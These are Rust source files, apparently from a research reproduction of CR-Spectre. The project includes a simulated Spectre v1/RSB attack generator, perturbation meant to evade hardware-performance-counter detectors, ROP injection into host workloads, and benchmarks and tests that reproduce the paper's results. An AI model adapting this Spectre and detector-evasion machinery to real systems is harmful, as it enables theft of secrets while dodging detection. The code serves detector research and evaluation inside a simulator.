        .map(|(name, fast, base)| {
            measure_family(&opts, name, fast.as_ref(), base.as_ref(), &x, &y, passes, reps)
        })
        .collect();

    let body: Vec<String> = results.iter().map(FamilyResult::json).collect();
    let json = format!(
        "{{\n  \"bench\": \"hid_throughput\",\n  \"quick\": {},\n  \"rows\": {},\n  \"dim\": 4,\n{}\n}}\n",
        opts.quick,
        n,
        body.join(",\n"),
    );
    std::fs::write(&out_path, &json)
        .unwrap_or_else(|e| panic!("cannot write {out_path:?}: {e}"));

    for r in &results {
        println!(
            "{}: train {:.0} -> {:.0} rows/s ({:.2}x), predict {:.0} -> {:.0} rows/s ({:.2}x)",
            r.name,
            r.train_base.rows_per_sec(),
            r.train_fast.rows_per_sec(),
            r.train_speedup(),
            r.predict_base.rows_per_sec(),
            r.predict_fast.rows_per_sec(),
            r.predict_speedup(),
        );
    }
    println!("wrote {out_path}");
    opts.finish();
}

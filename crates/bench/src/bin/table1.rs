//! Regenerates **Table I**: host IPC overhead under CR-Spectre with
//! offline-type and online-type HIDs, per MiBench benchmark.

use cr_spectre_bench::BenchOpts;
use cr_spectre_core::campaign::table1;

fn main() {
    let opts = BenchOpts::parse();
    opts.init_telemetry();
    let cfg = opts.campaign_config();
    let iterations = if opts.quick { 1 } else { 5 };
    println!("Table I: performance overhead (IPC) in evaluated benchmarks");
    println!(
        "{:<16}{:>12}{:>22}{:>22}",
        "Benchmark", "Original", "CR-Spectre offline", "CR-Spectre online"
    );
    let rows = table1(&cfg, iterations);
    let mut off_sum = 0.0;
    let mut on_sum = 0.0;
    for row in &rows {
        println!(
            "{:<16}{:>12.4}{:>14.4} ({:+5.2}%){:>13.4} ({:+5.2}%)",
            row.host.display_name(),
            row.ipc_original,
            row.ipc_offline,
            row.overhead_offline() * 100.0,
            row.ipc_online,
            row.overhead_online() * 100.0,
        );
        off_sum += row.overhead_offline();
        on_sum += row.overhead_online();
    }
    let n = rows.len() as f64;
    opts.note("\npaper: average overhead 0.6% (offline) / 1.1% (online)");
    println!(
        "measured: {:+.2}% (offline) / {:+.2}% (online)",
        off_sum / n * 100.0,
        on_sum / n * 100.0
    );
    opts.finish();
}

//! Extension experiment: the trade-off the paper's introduction argues —
//! hardware/microcode Spectre defenses (InvisiSpec, Context-Sensitive
//! Fencing, §I) stop the attack but "induce overheads and require
//! architecture level modifications", whereas the HID is low-overhead
//! but, as CR-Spectre shows, evadable.
//!
//! For each MiBench workload this prints the IPC under no defense,
//! InvisiSpec and CSF, plus whether the Spectre leak survives.
//!
//! ```sh
//! cargo run --release -p cr-spectre-bench --bin defense_overhead
//! ```

use cr_spectre_bench::BenchOpts;
use cr_spectre_core::attack::{run_standalone_spectre, AttackConfig};
use cr_spectre_core::campaign::profile_standalone;
use cr_spectre_sim::config::MachineConfig;
use cr_spectre_workloads::host::standalone_image;
use cr_spectre_workloads::mibench::Mibench;

fn ipc(machine: &MachineConfig, host: Mibench) -> f64 {
    profile_standalone(machine, &standalone_image(host), 2_000).outcome.ipc()
}

fn leak(machine: &MachineConfig) -> f64 {
    let mut cfg = AttackConfig::new(Mibench::Bitcount50M);
    cfg.machine = machine.clone();
    cfg.secret_len = 16;
    run_standalone_spectre(&cfg).leak_accuracy()
}

fn main() {
    let opts = BenchOpts::parse();
    opts.init_telemetry();
    let baseline = MachineConfig::default();
    let invisispec = MachineConfig::invisispec();
    let csf = MachineConfig::csf();

    println!("Defense overhead vs protection (extension of the paper's §I argument)");
    println!(
        "\n{:<16}{:>12}{:>22}{:>22}",
        "Benchmark", "no defense", "InvisiSpec", "CSF"
    );
    let mut inv_sum = 0.0;
    let mut csf_sum = 0.0;
    let hosts = Mibench::TABLE1_ROWS;
    for &host in &hosts {
        let base = ipc(&baseline, host);
        let inv = ipc(&invisispec, host);
        let fenced = ipc(&csf, host);
        inv_sum += 1.0 - inv / base;
        csf_sum += 1.0 - fenced / base;
        println!(
            "{:<16}{:>12.4}{:>14.4} ({:+5.1}%){:>13.4} ({:+5.1}%)",
            host.display_name(),
            base,
            inv,
            (1.0 - inv / base) * 100.0,
            fenced,
            (1.0 - fenced / base) * 100.0,
        );
    }
    let n = hosts.len() as f64;
    println!(
        "\naverage slowdown: InvisiSpec {:+.1}%, CSF {:+.1}%",
        inv_sum / n * 100.0,
        csf_sum / n * 100.0
    );

    println!("\nSpectre v1 leak accuracy under each defense:");
    println!("  no defense : {:>5.1}%", leak(&baseline) * 100.0);
    println!("  InvisiSpec : {:>5.1}%", leak(&invisispec) * 100.0);
    println!("  CSF        : {:>5.1}%", leak(&csf) * 100.0);
    opts.note("\nThe HID's appeal (and CR-Spectre's opening): zero slowdown on the");
    opts.note("host, at the price of a detector an adaptive attacker can evade.");
    opts.finish();
}

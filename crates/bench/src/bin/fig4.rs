//! Regenerates **Figure 4**: HID accuracy for four benign hosts vs the
//! original Spectre attack, across feature sizes 16/8/4/2/1.

use cr_spectre_bench::BenchOpts;
use cr_spectre_core::campaign::fig4;

fn main() {
    let opts = BenchOpts::parse();
    opts.init_telemetry();
    let cfg = opts.campaign_config();
    println!("Figure 4: HID accuracy vs feature size (MLP, 70/30 split)");
    println!("{:<16}{:>8}{:>8}{:>8}{:>8}{:>8}", "series", "16", "8", "4", "2", "1");
    let rows = fig4(&cfg);
    for (i, row) in rows.iter().enumerate() {
        print!("Spectre_{} ({:<6})", i + 1, row.host.name());
        let mut by_size = row.accuracies.clone();
        by_size.sort_by_key(|&(size, _)| std::cmp::Reverse(size));
        for (_, acc) in by_size {
            print!("{:>7.1}%", acc * 100.0);
        }
        println!();
    }
    let acc4: Vec<f64> = rows
        .iter()
        .map(|r| r.accuracies.iter().find(|(s, _)| *s == 4).expect("size 4").1)
        .collect();
    let mean4 = acc4.iter().sum::<f64>() / acc4.len() as f64;
    opts.note("\npaper: >90% average at feature size 4");
    println!("measured at feature size 4: {:.1}%", mean4 * 100.0);
    opts.finish();
}

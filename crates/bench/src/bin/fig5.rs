//! Regenerates **Figure 5**: offline-type HID performance against plain
//! Spectre (panel a) and CR-Spectre with a single static perturbation
//! (panel b), over 10 attack attempts.

use cr_spectre_bench::{evasion_headline, print_evasion, BenchOpts};
use cr_spectre_core::campaign::fig5;

fn main() {
    let opts = BenchOpts::parse();
    opts.init_telemetry();
    let cfg = opts.campaign_config();
    let result = fig5(&cfg);
    print_evasion(&result, "Fig 5");
    let (avg, min) = evasion_headline(&result);
    opts.note(
        "\npaper: Spectre detected 86-96%, CR-Spectre degrades below 55%;",
    );
    println!(
        "measured: plain Spectre mean {:.1}%, CR-Spectre minimum {:.1}%",
        avg * 100.0,
        min * 100.0
    );
    opts.finish();
}

//! Regenerates **Figure 5**: offline-type HID performance against plain
//! Spectre (panel a) and CR-Spectre with a single static perturbation
//! (panel b), over 10 attack attempts.

use cr_spectre_bench::{evasion_headline, print_evasion, threads_arg};
use cr_spectre_core::campaign::{fig5, CampaignConfig};

fn main() {
    let mut cfg = CampaignConfig::default();
    if std::env::args().any(|a| a == "--quick") {
        cfg = CampaignConfig::smoke();
    }
    if let Some(threads) = threads_arg() {
        cfg.threads = threads;
    }
    let result = fig5(&cfg);
    print_evasion(&result, "Fig 5");
    let (avg, min) = evasion_headline(&result);
    println!(
        "\npaper: Spectre detected 86-96%, CR-Spectre degrades below 55%;\n\
         measured: plain Spectre mean {:.1}%, CR-Spectre minimum {:.1}%",
        avg * 100.0,
        min * 100.0
    );
}

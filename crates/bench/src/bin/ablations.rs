//! Ablation sweeps over the design choices DESIGN.md calls out:
//!
//! 1. **speculation window depth** vs leak accuracy — how deep must
//!    transient execution run for Spectre v1 to work at all;
//! 2. **mispredict-resolve latency** (via DRAM latency) vs leak accuracy —
//!    the transient budget comes from the flushed bound's miss;
//! 3. **covert-channel stride** vs leak accuracy — strides below the cache
//!    line alias probe slots;
//! 4. **reload threshold** vs leak accuracy — the hit/miss decision margin;
//! 5. **perturbation dispersal delay** vs HID detection rate — the knob
//!    that turns Algorithm 2 from loud to evasive;
//! 6. **feature-set size** vs detection of the *perturbed* attack.
//!
//! ```sh
//! cargo run --release -p cr-spectre-bench --bin ablations
//! ```

use cr_spectre_bench::BenchOpts;
use cr_spectre_core::attack::{run_standalone_spectre, AttackConfig};
use cr_spectre_core::campaign::{
    benign_traces, build_training_data, CampaignConfig, NoiseModel,
};
use cr_spectre_core::perturb::PerturbParams;
use cr_spectre_core::spectre::SpectreVariant;
use cr_spectre_hid::detector::{Hid, HidKind, HidMode};
use cr_spectre_hid::metrics::Confusion;
use cr_spectre_hpc::dataset::{Dataset, Label};
use cr_spectre_hpc::features::{rank_by_fisher, FeatureSet};
use cr_spectre_workloads::mibench::Mibench;

fn leak_with(f: impl FnOnce(&mut AttackConfig)) -> f64 {
    let mut config = AttackConfig::new(Mibench::Bitcount50M);
    config.secret_len = 16;
    f(&mut config);
    run_standalone_spectre(&config).leak_accuracy()
}

fn main() {
    let opts = BenchOpts::parse();
    opts.init_telemetry();
    println!("== Ablation 1: speculation window depth vs leak accuracy ==");
    opts.note("(the transient path needs ~7 instructions; shallow windows kill v1)");
    for window in [2u64, 4, 6, 8, 16, 32, 64] {
        let acc = leak_with(|c| c.machine.spec_window = window);
        println!("  spec_window {window:>3}: leak {:>5.1}%", acc * 100.0);
    }

    println!("\n== Ablation 2: DRAM latency vs leak accuracy ==");
    opts.note("(the flushed bound's miss latency IS the transient budget)");
    for mem_latency in [20u64, 60, 120, 200, 400] {
        let acc = leak_with(|c| c.machine.caches.mem_latency = mem_latency);
        println!("  mem_latency {mem_latency:>4}: leak {:>5.1}%", acc * 100.0);
    }

    println!("\n== Ablation 3: covert-channel stride vs leak accuracy ==");
    opts.note("(strides below the 64-byte line alias neighbouring byte values)");
    for stride in [16i32, 32, 64, 128, 512] {
        let acc = leak_with(|c| c.covert.stride = stride);
        println!("  stride {stride:>4}: leak {:>5.1}%", acc * 100.0);
    }

    println!("\n== Ablation 3b: same stride sweep with a next-line prefetcher ==");
    opts.note("(prefetch fills corrupt adjacent probe slots — the historical reason");
    opts.note(" the classic PoC uses a 512-byte stride)");
    for stride in [64i32, 128, 256, 512] {
        let acc = leak_with(|c| {
            c.covert.stride = stride;
            c.machine.caches.next_line_prefetch = true;
        });
        println!("  stride {stride:>4}: leak {:>5.1}%", acc * 100.0);
    }

    println!("\n== Ablation 4: reload threshold vs leak accuracy ==");
    opts.note("(L1 hit ≈ 10 cycles, memory ≈ 230; thresholds outside break decode)");
    for threshold in [5i32, 20, 100, 200, 2000] {
        let acc = leak_with(|c| c.covert.threshold = threshold);
        println!("  threshold {threshold:>5}: leak {:>5.1}%", acc * 100.0);
    }

    // Train one MLP HID for the detection-side ablations.
    let mut cfg = CampaignConfig { samples_per_class: 250, ..CampaignConfig::default() };
    if let Some(threads) = opts.threads {
        cfg.threads = threads;
    }
    let features = FeatureSet::paper_default();
    let mut training = build_training_data(&cfg, &Mibench::FIG4_HOSTS, &features);
    let noise = NoiseModel::fit(&training.x, cfg.noise_strength);
    noise.apply(&mut training.x, cfg.seed, 7);
    let hid = Hid::train(HidKind::Mlp, HidMode::Offline, training);

    println!("\n== Ablation 5: perturbation dispersal delay vs detection rate ==");
    opts.note("(Algorithm 2 with growing delay loops — §II-E's dispersal mechanism)");
    for delay in [0i32, 200, 800, 2_500, 6_000] {
        let mut config = AttackConfig::new(Mibench::Bitcount50M)
            .with_variant(SpectreVariant::V1)
            .with_perturb(PerturbParams {
                delay,
                loop_count: 24,
                ..PerturbParams::paper_default()
            });
        config.secret_len = 16;
        let outcome = run_standalone_spectre(&config);
        let mut rows = outcome.attack_rows(&features);
        noise.apply(&mut rows, cfg.seed, 11 + delay as u64);
        println!(
            "  delay {delay:>5}: detection {:>5.1}%  (leak {:>5.1}%)",
            hid.detection_rate(&rows) * 100.0,
            outcome.leak_accuracy() * 100.0
        );
    }

    println!("\n== Ablation 6: extra classifier families (beyond the paper's four) ==");
    opts.note("(decision tree and k-NN on plain vs evasively perturbed Spectre)");
    {
        use cr_spectre_hid::{DecisionTree, Detector, Knn};
        use cr_spectre_hpc::features::Normalizer;
        let plain = run_standalone_spectre(&AttackConfig::new(Mibench::Bitcount50M));
        let mut config = AttackConfig::new(Mibench::Bitcount50M)
            .with_perturb(PerturbParams::evasive_default());
        config.secret_len = 16;
        let perturbed = run_standalone_spectre(&config);
        let mut train = build_training_data(&cfg, &Mibench::FIG4_HOSTS, &features);
        let noise2 = NoiseModel::fit(&train.x, cfg.noise_strength);
        noise2.apply(&mut train.x, cfg.seed, 19);
        let norm = Normalizer::fit(&train.x);
        let mut x = train.x.clone();
        norm.apply_all(&mut x);
        let mut models: Vec<Box<dyn Detector>> =
            vec![Box::new(DecisionTree::new()), Box::new(Knn::new())];
        for model in &mut models {
            model.fit(&x, &train.y);
            let rate = |outcome: &cr_spectre_core::attack::AttackOutcome, tag: u64| {
                let mut rows = outcome.attack_rows(&features);
                noise2.apply(&mut rows, cfg.seed, tag);
                norm.apply_all(&mut rows);
                let hits = rows.iter().filter(|r| model.predict(r) == 1).count();
                hits as f64 / rows.len().max(1) as f64
            };
            println!(
                "  {:<4} plain Spectre {:>5.1}%   perturbed CR-Spectre {:>5.1}%",
                model.name(),
                rate(&plain, 23) * 100.0,
                rate(&perturbed, 29) * 100.0
            );
        }
    }

    println!("\n== Ablation 7: feature-set size vs detection of the perturbed attack ==");
    let mut config = AttackConfig::new(Mibench::Bitcount50M)
        .with_perturb(PerturbParams::evasive_default());
    config.secret_len = 16;
    let outcome = run_standalone_spectre(&config);
    for size in [1usize, 2, 4, 8, 16] {
        let fs = FeatureSet::paper(size);
        let mut training = build_training_data(&cfg, &Mibench::FIG4_HOSTS, &fs);
        let noise = NoiseModel::fit(&training.x, cfg.noise_strength);
        noise.apply(&mut training.x, cfg.seed, 13);
        let hid = Hid::train(HidKind::Mlp, HidMode::Offline, training);
        let mut rows = outcome.attack_rows(&fs);
        noise.apply(&mut rows, cfg.seed, 17 + size as u64);
        println!(
            "  features {size:>2}: detection of perturbed CR-Spectre {:>5.1}%",
            hid.detection_rate(&rows) * 100.0
        );
    }

    println!("\n== Ablation 8: offline Fisher ranking of all 56 events ==");
    opts.note("(does the paper-ranked real-time prefix agree with a data-driven rank?)");
    {
        let all = FeatureSet::all();
        let training = build_training_data(&cfg, &Mibench::FIG4_HOSTS, &all);
        let ranked = rank_by_fisher(all.events(), &training.x, &training.y);
        for (i, (event, score)) in ranked.iter().take(10).enumerate() {
            println!("  #{:<2} {:<22} fisher {score:.3}", i + 1, event.to_string());
        }
    }

    println!("\n== Ablation 9: the online HID's hidden false-alarm cost ==");
    opts.note("(after chasing perturbation variants, how noisy is the detector?)");
    {
        let mut training = build_training_data(&cfg, &Mibench::FIG4_HOSTS, &features);
        let noise9 = NoiseModel::fit(&training.x, cfg.noise_strength);
        noise9.apply(&mut training.x, cfg.seed, 31);
        let mut hid = Hid::train(HidKind::Mlp, HidMode::Online, training);
        // Fresh benign evaluation set (held out).
        let mut benign_eval = Dataset::new();
        for trace in benign_traces(&cfg, &[Mibench::Crc32, Mibench::Fft]) {
            benign_eval.push_trace(&trace, Label::Benign, &features);
        }
        noise9.apply(&mut benign_eval.x, cfg.seed, 37);
        let before = Confusion::measure(&hid, &benign_eval.x, &benign_eval.y);
        // Chase three evasive variants, self-labelling as a real deployment
        // would.
        for attempt in 0..3u64 {
            let mut config = AttackConfig::new(Mibench::Sha1)
                .with_perturb(PerturbParams::evasive_default());
            config.secret_len = 16;
            let outcome = cr_spectre_core::attack::run_cr_spectre(&config).expect("launches");
            let mut rows = outcome.attack_rows(&features);
            noise9.apply(&mut rows, cfg.seed, 41 + attempt);
            hid.ingest_self_labeled(&rows);
            hid.retrain();
        }
        let after = Confusion::measure(&hid, &benign_eval.x, &benign_eval.y);
        println!(
            "  benign false-positive rate: {:.1}% before, {:.1}% after the chase",
            before.false_positive_rate() * 100.0,
            after.false_positive_rate() * 100.0
        );
    }
    opts.finish();
}

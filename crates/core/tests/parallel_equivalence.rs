//! The campaign engine's headline guarantee: for every experiment
//! driver, the result at `threads = 1` is **byte-identical** to the
//! result at any other thread count.
//!
//! Each test runs a driver twice at reduced scale — serial, then on 4
//! workers — and compares the `Debug` renderings of the results.
//! `Debug` formatting of `f64` round-trips every bit (Rust prints the
//! shortest string that parses back exactly), so string equality here is
//! bit equality of every accuracy, IPC, and overhead in the artifact.

use cr_spectre_core::campaign::{fig4, fig5, fig6, table1, CampaignConfig};
use cr_spectre_core::derive_seed;

/// Smoke scale with an explicit worker count — the acceptance bar is
/// equivalence at [`CampaignConfig::smoke`] scale.
fn tiny(threads: usize) -> CampaignConfig {
    CampaignConfig { threads, ..CampaignConfig::smoke() }
}

#[test]
fn fig4_is_identical_serial_and_parallel() {
    let serial = format!("{:?}", fig4(&tiny(1)));
    let parallel = format!("{:?}", fig4(&tiny(4)));
    assert_eq!(serial, parallel);
}

#[test]
fn fig5_is_identical_serial_and_parallel() {
    let serial = format!("{:?}", fig5(&tiny(1)));
    let parallel = format!("{:?}", fig5(&tiny(4)));
    assert_eq!(serial, parallel);
}

#[test]
fn fig6_is_identical_serial_and_parallel() {
    let serial = format!("{:?}", fig6(&tiny(1)));
    let parallel = format!("{:?}", fig6(&tiny(4)));
    assert_eq!(serial, parallel);
}

#[test]
fn table1_is_identical_serial_and_parallel() {
    let serial = format!("{:?}", table1(&tiny(1), 2));
    let parallel = format!("{:?}", table1(&tiny(4), 2));
    assert_eq!(serial, parallel);
}

/// Telemetry is observation-only: with a recorder installed, every
/// driver still produces bit-identical results — serial vs parallel and
/// recording vs not. (Only this test installs the process-global
/// recorder, and it uninstalls it on shutdown; the sibling tests are
/// unaffected either way because recording never changes results.)
#[test]
fn fig5_is_identical_with_telemetry_enabled() {
    use cr_spectre_telemetry as telemetry;
    use cr_spectre_telemetry::sink::MemorySink;

    let disabled = format!("{:?}", fig5(&tiny(2)));
    let sink = MemorySink::shared();
    assert!(telemetry::install(vec![Box::new(sink.clone())]), "no other recorder exists");
    let serial = format!("{:?}", fig5(&tiny(1)));
    let parallel = format!("{:?}", fig5(&tiny(4)));
    let summary = telemetry::shutdown().expect("recorder was installed");
    assert_eq!(serial, parallel, "equivalence holds while recording");
    assert_eq!(serial, disabled, "recording does not change results");
    // And the trace really observed the runs.
    assert!(summary.spans.contains_key("campaign.fig5"));
    assert!(summary.spans.contains_key("fig5.train"));
    let spans = sink.spans();
    assert!(spans.iter().any(|s| s.name == "fig5.attempt"));
    assert!(spans.iter().any(|s| s.name == "hpc.profile"));
    assert!(summary.counters.get("sim.runs").copied().unwrap_or(0) > 0);
}

#[test]
fn thread_count_beyond_work_width_is_still_identical() {
    // More workers than items exercises the clamp path.
    let serial = format!("{:?}", table1(&tiny(1), 1));
    let oversubscribed = format!("{:?}", table1(&tiny(64), 1));
    assert_eq!(serial, oversubscribed);
}

mod derive_seed_props {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        /// `stream ↦ derive_seed(base, stream)` is injective for every
        /// fixed base: distinct trials can never collide onto the same
        /// RNG seed.
        #[test]
        fn injective_over_streams(base in any::<u64>(), a in any::<u64>(), b in any::<u64>()) {
            if a != b {
                prop_assert_ne!(derive_seed(base, a), derive_seed(base, b));
            }
        }

        /// Trial indices that are close together (the common case:
        /// attempt 0, 1, 2, …) land on well-separated seeds.
        #[test]
        fn adjacent_streams_differ(base in any::<u64>(), stream in 0u64..1 << 32) {
            prop_assert_ne!(derive_seed(base, stream), derive_seed(base, stream + 1));
        }

        /// Pure function: same inputs, same seed, on every run and host.
        #[test]
        fn deterministic(base in any::<u64>(), stream in any::<u64>()) {
            prop_assert_eq!(derive_seed(base, stream), derive_seed(base, stream));
        }
    }
}

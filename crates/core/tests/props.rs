//! Property-based tests of the attack layer.

use proptest::prelude::*;

use cr_spectre_asm::builder::Asm;
use cr_spectre_core::covert::{CovertConfig, ChannelStrategy};
use cr_spectre_core::perturb::{emit_perturb, Camouflage, PerturbParams, VariantGenerator};
use cr_spectre_core::spectre::{build_spectre_image, SpectreConfig, SpectreVariant};
use cr_spectre_sim::config::MachineConfig;
use cr_spectre_sim::cpu::Machine;
use cr_spectre_sim::pmu::HpcEvent;

fn arb_camouflage() -> impl Strategy<Value = Camouflage> {
    prop_oneof![
        Just(Camouflage::None),
        Just(Camouflage::Copy),
        Just(Camouflage::Hash),
        Just(Camouflage::Scan),
    ]
}

fn arb_params() -> impl Strategy<Value = PerturbParams> {
    (
        1i32..48,
        1i32..32,
        1i32..40,
        1i32..80,
        1i32..24,
        0i32..1500,
        arb_camouflage(),
    )
        .prop_map(|(a, b, loop_count, a_step, b_step, delay, camouflage)| PerturbParams {
            a,
            b,
            loop_count,
            a_step,
            b_step,
            delay,
            camouflage,
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// The guest perturbation routine's flush count matches the Rust
    /// model `expected_flushes` for arbitrary Algorithm-2 parameters, and
    /// the routine always terminates cleanly.
    #[test]
    fn perturb_guest_matches_model(params in arb_params()) {
        let mut asm = Asm::new();
        asm.label("main");
        asm.call("perturb");
        asm.halt();
        asm.entry("main");
        emit_perturb(&mut asm, &params);
        let image = asm.build("p").expect("assembles");
        let mut machine = Machine::new(MachineConfig::default());
        let loaded = machine.load(&image).expect("loads");
        machine.start(loaded.entry);
        let out = machine.run();
        prop_assert!(out.exit.is_clean(), "{:?}", out.exit);
        prop_assert_eq!(
            machine.pmu().count(HpcEvent::Flushes),
            params.expected_flushes()
        );
        prop_assert_eq!(
            machine.pmu().count(HpcEvent::Fences),
            params.expected_flushes(),
            "every flush is paired with a fence"
        );
    }

    /// Spectre images build, load and carry their required symbols for
    /// any valid configuration.
    #[test]
    fn spectre_image_is_well_formed(
        secret_len in 1u32..64,
        train_rounds in 1u32..16,
        rounds in 1u32..4,
        v1 in any::<bool>(),
        evict in any::<bool>(),
        perturbed in any::<bool>(),
    ) {
        let mut config = SpectreConfig::new(0x8000, secret_len);
        config.train_rounds = train_rounds;
        config.rounds_per_byte = rounds;
        config.variant = if v1 { SpectreVariant::V1 } else { SpectreVariant::Rsb };
        if evict {
            config.covert = CovertConfig::evict_reload();
        }
        if perturbed {
            config = config.with_perturb(PerturbParams::paper_default());
        }
        let image = build_spectre_image(&config);
        for sym in ["main", "sp_victim", "sp_probe", "sp_recovered"] {
            prop_assert!(image.symbol(sym).is_some(), "missing {}", sym);
        }
        prop_assert_eq!(image.symbol("perturb").is_some(), perturbed);
        prop_assert_eq!(
            image.symbol("cv_evict").is_some(),
            config.covert.strategy == ChannelStrategy::EvictReload
        );
        let mut machine = Machine::new(MachineConfig::default());
        prop_assert!(machine.load(&image).is_ok(), "image must fit");
    }

    /// The variant generator is deterministic per seed and every variant
    /// it emits has sane (positive, bounded) parameters.
    #[test]
    fn variant_generator_emits_sane_params(seed in any::<u64>()) {
        let mut g = VariantGenerator::new(seed);
        for generation in 1..=8u32 {
            let v = g.next_variant();
            prop_assert_eq!(g.generation(), generation);
            prop_assert!(v.loop_count > 0);
            prop_assert!(v.a > 0 && v.b > 0);
            prop_assert!(v.a_step > 0 && v.b_step > 0);
            prop_assert!(v.delay >= 0);
            prop_assert!(v.expected_flushes() > 0);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(6))]

    /// The end-to-end leak is byte-perfect for arbitrary secret lengths
    /// (the per-byte machinery has no length-dependent edge cases).
    #[test]
    fn leak_is_exact_for_any_secret_length(len in 1u32..24) {
        use cr_spectre_core::attack::{run_standalone_spectre, AttackConfig};
        use cr_spectre_workloads::host::SECRET;
        use cr_spectre_workloads::mibench::Mibench;
        let mut config = AttackConfig::new(Mibench::Bitcount50M);
        config.secret_len = len;
        let outcome = run_standalone_spectre(&config);
        prop_assert_eq!(&outcome.recovered[..], &SECRET[..len as usize]);
    }
}

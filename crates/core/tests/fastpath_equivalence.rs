//! The fast path's headline guarantee (the PR-3 analogue of
//! `parallel_equivalence.rs`): every experiment driver produces
//! **bit-identical** results with the execution fast path enabled vs. the
//! `MachineConfig::fast_path = false` escape hatch.
//!
//! `Debug` formatting of `f64` round-trips every bit, so string equality
//! of the rendered artifacts is bit equality of every number in them.
//! fig5 and fig6 run the full CR-Spectre chain — ROP injection rewrites
//! host code at runtime — so these tests also cover the self-modifying
//! path of the predecode cache at campaign scale.

use cr_spectre_core::campaign::{fig4, fig5, fig6, table1, CampaignConfig};

/// Smoke scale; `fast` toggles the machine's execution fast path.
fn tiny(fast: bool) -> CampaignConfig {
    let mut cfg = CampaignConfig::smoke();
    cfg.machine.fast_path = fast;
    cfg
}

#[test]
fn fig4_is_identical_with_fast_path_disabled() {
    let fast = format!("{:?}", fig4(&tiny(true)));
    let slow = format!("{:?}", fig4(&tiny(false)));
    assert_eq!(fast, slow);
}

#[test]
fn fig5_is_identical_with_fast_path_disabled() {
    // fig5 runs the CR-Spectre attack: the ROP chain `exec`-injects the
    // Spectre binary into the running host image (self-modifying code).
    let fast = format!("{:?}", fig5(&tiny(true)));
    let slow = format!("{:?}", fig5(&tiny(false)));
    assert_eq!(fast, slow);
}

#[test]
fn fig6_is_identical_with_fast_path_disabled() {
    let fast = format!("{:?}", fig6(&tiny(true)));
    let slow = format!("{:?}", fig6(&tiny(false)));
    assert_eq!(fast, slow);
}

#[test]
fn table1_is_identical_with_fast_path_disabled() {
    let fast = format!("{:?}", table1(&tiny(true), 2));
    let slow = format!("{:?}", table1(&tiny(false), 2));
    assert_eq!(fast, slow);
}

/// The three-way cross-check: fast path on, off, and on-while-recording
/// all agree, and the telemetry trace actually observed the simulator's
/// hot path (instruction counts flow through the batched PMU flush).
#[test]
fn fig5_is_identical_with_fast_path_and_telemetry() {
    use cr_spectre_telemetry as telemetry;
    use cr_spectre_telemetry::sink::MemorySink;

    let slow = format!("{:?}", fig5(&tiny(false)));
    let sink = MemorySink::shared();
    assert!(telemetry::install(vec![Box::new(sink.clone())]), "no other recorder exists");
    let fast_recorded = format!("{:?}", fig5(&tiny(true)));
    let summary = telemetry::shutdown().expect("recorder was installed");
    assert_eq!(fast_recorded, slow, "fast path + telemetry still bit-identical");
    assert!(summary.spans.contains_key("campaign.fig5"));
    assert!(
        summary.counters.get("sim.instructions").copied().unwrap_or(0) > 0,
        "instruction counts reached telemetry through the batched PMU flush"
    );
}

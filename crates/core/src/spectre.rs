//! The speculative attack binary: Spectre v1 (bounds-check bypass) and a
//! Spectre-RSB variant, generated as injectable guest images.
//!
//! The generated binary follows Kocher et al.'s PoC structure: a
//! *victim function* that only touches `array1[x]` after a bounds check,
//! and an *attacker loop* that mistrains the branch predictor, flushes
//! `array1_size`, calls the victim with an out-of-bounds index aimed at
//! the secret, and recovers the byte over the flush+reload channel. The
//! recovered bytes are exfiltrated through the `write` syscall, and
//! between bytes the binary optionally calls the Algorithm-2 `perturb`
//! routine (the CR part of CR-Spectre).

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::cpu::sys;
use cr_spectre_sim::image::Image;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};

use crate::covert::{emit_flush_probe, emit_probe_decode, CovertConfig};
use crate::perturb::{emit_perturb, PerturbParams};

/// Which speculation primitive the attack exploits.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SpectreVariant {
    /// Classic bounds-check bypass (PHT mistraining) — Spectre v1.
    V1,
    /// Return-stack-buffer mispredict (return-address rewrite) — the
    /// "Spectre returns!" variant the paper averages in.
    Rsb,
}

impl SpectreVariant {
    /// Both implemented variants.
    pub const ALL: [SpectreVariant; 2] = [SpectreVariant::V1, SpectreVariant::Rsb];

    /// Display name.
    pub fn name(self) -> &'static str {
        match self {
            SpectreVariant::V1 => "spectre_v1",
            SpectreVariant::Rsb => "spectre_rsb",
        }
    }
}

impl std::fmt::Display for SpectreVariant {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Configuration of a generated attack binary.
#[derive(Debug, Clone)]
pub struct SpectreConfig {
    /// Binary name registered with the machine (the `execve` argument).
    pub binary_name: String,
    /// Absolute guest address of the secret (known to the adversary, as
    /// in the paper's threat model).
    pub secret_addr: u64,
    /// Number of secret bytes to leak.
    pub secret_len: u32,
    /// Speculation primitive.
    pub variant: SpectreVariant,
    /// Covert-channel parameters.
    pub covert: CovertConfig,
    /// Predictor-mistraining calls per leaked byte (v1 only).
    pub train_rounds: u32,
    /// Attack rounds per byte (retries improve fidelity on cold lines).
    pub rounds_per_byte: u32,
    /// Algorithm-2 perturbation to interleave, if any — `Some` makes this
    /// a CR-Spectre binary, `None` a plain Spectre.
    pub perturb: Option<PerturbParams>,
}

impl SpectreConfig {
    /// A plain Spectre v1 binary aimed at `secret_addr`.
    pub fn new(secret_addr: u64, secret_len: u32) -> SpectreConfig {
        assert!(secret_addr < i32::MAX as u64, "secret address must fit an immediate");
        SpectreConfig {
            binary_name: "spectre".to_string(),
            secret_addr,
            secret_len,
            variant: SpectreVariant::V1,
            covert: CovertConfig::default(),
            train_rounds: 8,
            rounds_per_byte: 2,
            perturb: None,
        }
    }

    /// Switches the speculation variant.
    pub fn with_variant(mut self, variant: SpectreVariant) -> SpectreConfig {
        self.variant = variant;
        self
    }

    /// Attaches an Algorithm-2 perturbation (making this CR-Spectre).
    pub fn with_perturb(mut self, params: PerturbParams) -> SpectreConfig {
        self.perturb = Some(params);
        self
    }
}

/// Builds the attack binary image described by `config`.
pub fn build_spectre_image(config: &SpectreConfig) -> Image {
    let mut asm = Asm::new();
    emit_main(&mut asm, config);
    match config.variant {
        SpectreVariant::V1 => emit_v1_victim(&mut asm, config.covert.stride),
        SpectreVariant::Rsb => emit_rsb_victim(&mut asm, &config.covert),
    }
    if let Some(params) = &config.perturb {
